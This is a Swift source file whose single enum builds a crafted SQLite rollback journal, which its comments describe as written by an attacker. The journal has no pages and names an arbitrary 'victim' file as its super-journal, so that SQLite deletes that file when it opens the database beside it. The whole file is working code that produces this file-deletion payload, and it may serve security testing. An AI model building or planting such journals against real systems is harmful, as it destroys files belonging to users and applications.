package import Foundation

/// A rollback journal of SQLite as an attacker writes it. It has no pages, and names another file as its super-journal:
/// when SQLite finds it beside a database, it rolls back nothing and deletes that file.
package enum RollbackJournal {
  private static let magic: [UInt8] = [0xd9, 0xd5, 0x05, 0xf9, 0x20, 0xa1, 0x63, 0xd7]
  private static let sectorByteCount = 512
  private static let pageByteCount: UInt32 = 4096

  /// Returns the journal of a database with a number of pages, which keeps its size. `victim` is the path of the file.
  package static func deleting(_ victim: String, besideDatabaseWithPages pages: UInt32) -> Data {
    var bytes = magic
    for number in [0, 0, pages, UInt32(sectorByteCount), pageByteCount] { bytes += bigEndian(number) }
    bytes += Array(repeating: 0, count: sectorByteCount - bytes.count)
    let name = Array(victim.utf8)
    let sum = name.reduce(UInt32(0)) { $0 &+ UInt32($1) }
    return Data(bytes + name + bigEndian(UInt32(name.count)) + bigEndian(sum) + magic)
  }

  /// Returns the journal for a database file.
  package static func deleting(_ victim: String, beside database: String) throws -> Data {
    let size = try FileManager.default.attributesOfItem(atPath: database)[.size] as? NSNumber
    return deleting(victim, besideDatabaseWithPages: (size?.uint32Value ?? 0) / pageByteCount)
  }

  private static func bigEndian(_ number: UInt32) -> [UInt8] {
    (0..<4).map { UInt8(truncatingIfNeeded: number >> (24 - 8 * $0)) }
  }
}
